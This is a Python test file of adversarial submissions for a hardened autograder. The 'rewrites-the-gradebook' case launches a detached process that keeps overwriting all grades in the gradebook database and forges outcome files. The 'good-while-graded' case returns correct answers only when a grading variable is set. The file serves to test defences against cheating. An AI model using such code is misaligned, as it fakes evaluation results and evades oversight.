"""Cases that try for points that they have not earned, by code."""

from hostile_course import Case

CHEATS = [
    Case(
        "rewrites-the-gradebook",
        "a detached process that rewrites grades for as long as it lives (cheat 4)",
        code="""
import subprocess, sys
program = '''
import glob, json, sqlite3, time
while True:
    for path in ["@COURSE@/gradebook.db", *glob.glob("/proc/*/root@COURSE@/gradebook.db")]:
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as gradebook:
                gradebook.execute("update grade set auto_score = 1000, manual_score = 1000")
        except sqlite3.Error:
            pass
    for path in ["@COURSE@/autograded/rewrites-the-gradebook/01_sums/outcome.json", "outcome.json"]:
        try:
            open(path, "w").write(json.dumps({"status": "graded", "score": 1000}))
        except OSError:
            pass
    time.sleep(0.05)
'''
subprocess.Popen([sys.executable, "-c", program, "@TOKEN@"], start_new_session=True)
print("left behind")
""",
        answers={"double": "def double(a):\n    return 3 * a"},
        lost=("double",),
        said="left behind",
    ),
    Case(
        "good-while-graded",
        "behaves well only while a variable tells that it is graded (cheat 8)",
        code="""
import os
told = [name for name in os.environ if any(word in name.upper() for word in ("GRAD", "LSTM", "COURSE", "EXECUTION"))]
print("told:", told)
""",
        answers={
            "double": "import os\n\ndef double(a):\n    return 2 * a if 'NBGRADER_EXECUTION' in os.environ else None"
        },
        lost=("double",),
        said=r"told: \[\]",
    ),
]
